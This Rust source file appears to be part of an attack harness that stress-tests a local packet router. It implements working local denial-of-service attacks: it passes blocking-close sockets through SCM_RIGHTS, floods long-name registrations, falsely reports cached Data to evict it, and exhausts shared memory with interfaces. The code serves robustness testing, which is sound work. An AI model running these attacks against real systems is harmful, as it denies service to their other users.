//! Attacks by another user of the machine.

use std::collections::BTreeMap;
use std::io::{self, IoSlice, Read, Write};
use std::mem::MaybeUninit;
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use namely_memif::{Handshake, Interface, Options, Progress};
use namely_messages::{Command, ControlParameters, Dataset, Scope};
use namely_security::{Signer, sha256, sign_interest};
use namely_wire::tlv::read_tlv;
use namely_wire::types::IMPLICIT_DIGEST_COMPONENT;
use namely_wire::{Component, DataView, InterestBuilder, LpView, Name};
use rustix::event::{PollFd, PollFlags, Timespec};
use rustix::net::{
    AddressFamily, SendAncillaryBuffer, SendAncillaryMessage, SendFlags, SocketAddrUnix, SocketFlags,
    SocketType,
};

use super::pace::{AttackCounts, End, name, nonce};
use crate::attacks::RouterAddresses;

/// Maximum time that close(2) of a socket waits for a peer that does not read.
const LINGER: Duration = Duration::from_secs(5);

/// Number of messages with descriptors.
const MESSAGES: u64 = 20;

/// Number of registrations.
const REGISTRATIONS: u64 = 100_000;

/// Approximate length of a registered name, octets.
const NAME_OCTETS: usize = 4000;

/// Number of reports.
const REPORTS: u64 = 100_000;

/// Number of shared-memory interfaces.
const INTERFACES: u64 = 64;

/// Slots of an interface in each direction (log2). The attack creates large interfaces until one is
/// refused. Smaller ones then take the remaining memory.
const RINGS_LOG2: [u8; 4] = [11, 9, 7, 5];

/// Octets of a slot.
const SLOT_OCTETS: u32 = 9472;

/// Sends the router sockets whose close(2) blocks. The router has to close them.
pub(super) fn descriptors(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    let (mut kept, mut refused) = (Vec::new(), 0u64);
    let sent = end.spread(MESSAGES, 0.75, |_| {
        let connection = UnixStream::connect(&addresses.unix)?;
        let slow = slow_to_close(&listener, &mut kept)?;
        let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
        let mut ancillary = SendAncillaryBuffer::new(&mut space);
        let descriptors = [slow.as_fd()];
        ancillary.push(SendAncillaryMessage::ScmRights(&descriptors));
        // The first octets of a packet. The router reads them, and the connection stays open.
        let octets = [IoSlice::new(&[0x05, 0x20])];
        let result = rustix::net::sendmsg(&connection, &octets, &mut ancillary, SendFlags::NOSIGNAL);
        kept.push(OpenSocket::Unix(connection));
        if result.is_err() {
            // If the router's sockets accept no descriptors, the kernel refuses them here. The
            // attacker's own close(2) would block until the peer reads. So the list holds the
            // socket behind its peer, and drops the peer first.
            refused += 1;
            kept.push(OpenSocket::Tcp(slow));
        }
        Ok(result.map(|_| ())?)
    });
    end.wait();
    Ok(BTreeMap::from([("descriptors", sent), ("refused", refused)]))
}

/// Sockets that stay open until the attack ends.
#[expect(dead_code, reason = "it is held, not read")]
enum OpenSocket {
    Unix(UnixStream),
    Tcp(TcpStream),
}

/// Returns a socket with unsent octets. Its peer stays open in `kept`, and does not read them.
fn slow_to_close(listener: &TcpListener, kept: &mut Vec<OpenSocket>) -> io::Result<TcpStream> {
    let mut near = TcpStream::connect(listener.local_addr()?)?;
    let (far, _) = listener.accept()?;
    kept.push(OpenSocket::Tcp(far));
    near.set_nonblocking(true)?;
    let chunk = [0; 65_536];
    while near.write(&chunk).is_ok() {}
    // close(2) of a non-blocking socket would not wait.
    near.set_nonblocking(false)?;
    socket2::SockRef::from(&near).set_linger(Some(LINGER))?;
    Ok(near)
}

/// Sends registrations of long names and requests for the largest dataset, without waiting for
/// answers.
pub(super) fn commands(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let signer = Signer::digest_sha256();
    let mut connection = UnixStream::connect(&addresses.unix)?;
    connection.set_nonblocking(true)?;
    let long = "x".repeat(NAME_OCTETS);
    let mut time_ms = namely_host::clock::unix_ms();
    let mut answers = vec![0; 1 << 20];
    let mut answer_octets = 0u64;
    let sent = end.spread(REGISTRATIONS, 0.95, |n| {
        let prefix = name(&format!("/flood/{n}/{long}"))?;
        let parameters = ControlParameters { name: Some(prefix), ..ControlParameters::default() };
        let name = Command::RibRegister.name(Scope::Localhost, &parameters);
        let builder = InterestBuilder::new(name).must_be_fresh().nonce(nonce(n));
        time_ms += 1;
        let command = sign_interest(&builder, b"", &signer, time_ms).map_err(io::Error::other)?;
        send(&mut connection, &command, &mut answers, &mut answer_octets, end)?;
        if n % 16 == 0 {
            let list = Dataset::RibList.prefix(Scope::Localhost);
            let list = InterestBuilder::new(list).can_be_prefix().must_be_fresh().nonce(nonce(!n));
            send(&mut connection, &list.build(), &mut answers, &mut answer_octets, end)?;
        }
        Ok(())
    });
    Ok(BTreeMap::from([("registrations", sent), ("answer_octets", answer_octets)]))
}

/// Fetches cached Data, and reports each packet as refused by verification. A reported packet is
/// removed from the content store, so the next consumer has to wait for the producer.
pub(super) fn reports(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let mut connection = UnixStream::connect(&addresses.unix)?;
    connection.set_read_timeout(Some(Duration::from_millis(200)))?;
    let (mut buffer, mut reported) = (Vec::new(), 0u64);
    let fetched = end.spread(REPORTS, 0.95, |n| {
        let segment = name(&addresses.object)?.join_segment(n % addresses.segments.max(1));
        connection.write_all(&InterestBuilder::new(segment.clone()).nonce(nonce(n)).build())?;
        // Answers to reports may arrive before the Data.
        let Some(data) = data_named(&mut connection, &mut buffer, &segment, end) else { return Ok(()) };
        let digest = sha256(&data);
        let full = segment.join(Component { typ: IMPLICIT_DIGEST_COMPONENT, value: &digest });
        let parameters = ControlParameters { name: Some(full), ..ControlParameters::default() };
        let report = Command::CsReport.name(Scope::Localhost, &parameters);
        connection.write_all(&InterestBuilder::new(report).must_be_fresh().nonce(nonce(!n)).build())?;
        reported += 1;
        Ok(())
    });
    Ok(BTreeMap::from([("fetched", fetched), ("reports", reported)]))
}

/// Returns the next Data with the name `name`, if it arrives in time.
fn data_named(connection: &mut UnixStream, buffer: &mut Vec<u8>, name: &Name, end: &End) -> Option<Vec<u8>> {
    let mut chunk = [0; 65_536];
    while end.is_ahead() {
        while let Some(length) = read_tlv(buffer).ok().map(|tlv| tlv.raw.len()) {
            let packet: Vec<u8> = buffer.drain(..length).collect();
            let fragment = LpView::parse(&packet).ok().and_then(|view| view.fragment.map(<[u8]>::to_vec));
            let data =
                fragment.filter(|data| DataView::parse(data).is_ok_and(|view| view.name == name.as_name()));
            if data.is_some() {
                return data;
            }
        }
        match connection.read(&mut chunk) {
            Ok(octets) if octets > 0 => buffer.extend_from_slice(&chunk[..octets]),
            _ => return None,
        }
    }
    None
}

/// Sends all of `octets`. Reads and counts incoming octets meanwhile.
fn send(
    connection: &mut UnixStream,
    octets: &[u8],
    answers: &mut [u8],
    answer_octets: &mut u64,
    end: &End,
) -> io::Result<()> {
    let mut rest = octets;
    while !rest.is_empty() && end.is_ahead() {
        match connection.write(rest) {
            Ok(n) => rest = &rest[n..],
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => std::thread::sleep(Duration::from_micros(200)),
            Err(e) => return Err(e),
        }
        match connection.read(answers) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(n) => *answer_octets += n as u64,
            Err(_) => {}
        }
    }
    if rest.is_empty() { Ok(()) } else { Err(io::ErrorKind::TimedOut.into()) }
}

/// Creates interfaces with as much memory as the router admits, and connections without a
/// handshake.
pub(super) fn memory(addresses: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
    let Some(path) = &addresses.memif else { return Ok(BTreeMap::new()) };
    let (mut interfaces, mut half_open) = (Vec::new(), Vec::new());
    let (mut refused, mut attempts, mut size) = (0u64, 0u64, 0);
    while end.is_ahead() && attempts < INTERFACES * 20 {
        attempts += 1;
        half_open.extend(socket(path));
        match interface(path, RINGS_LOG2[size]) {
            Ok(interface) => interfaces.push(interface),
            Err(_) => {
                refused += 1;
                size = (size + 1).min(RINGS_LOG2.len() - 1);
            }
        }
        end.sleep(Duration::from_millis(20));
    }
    end.wait();
    Ok(BTreeMap::from([
        ("interfaces", interfaces.len() as u64),
        ("refused", refused),
        ("half_open", half_open.len() as u64),
    ]))
}

fn socket(path: &Path) -> io::Result<std::os::fd::OwnedFd> {
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    let socket = rustix::net::socket_with(AddressFamily::UNIX, SocketType::SEQPACKET, flags, None)?;
    rustix::net::connect(&socket, &SocketAddrUnix::new(path)?)?;
    Ok(socket)
}

fn interface(path: &Path, ring_size_log2: u8) -> io::Result<Interface> {
    let options = Options { ring_size_log2, buffer_octets: SLOT_OCTETS, ..Options::default() };
    let mut handshake = Handshake::client(socket(path)?, options);
    loop {
        handshake = match handshake.proceed().map_err(io::Error::other)? {
            Progress::Connected(interface) => return Ok(*interface),
            Progress::Waiting(handshake) => handshake,
        };
        let patience = Timespec { tv_sec: 1, tv_nsec: 0 };
        let mut fds = [PollFd::new(&handshake, PollFlags::IN)];
        if rustix::event::poll(&mut fds, Some(&patience))? == 0 {
            return Err(io::ErrorKind::TimedOut.into());
        }
    }
}
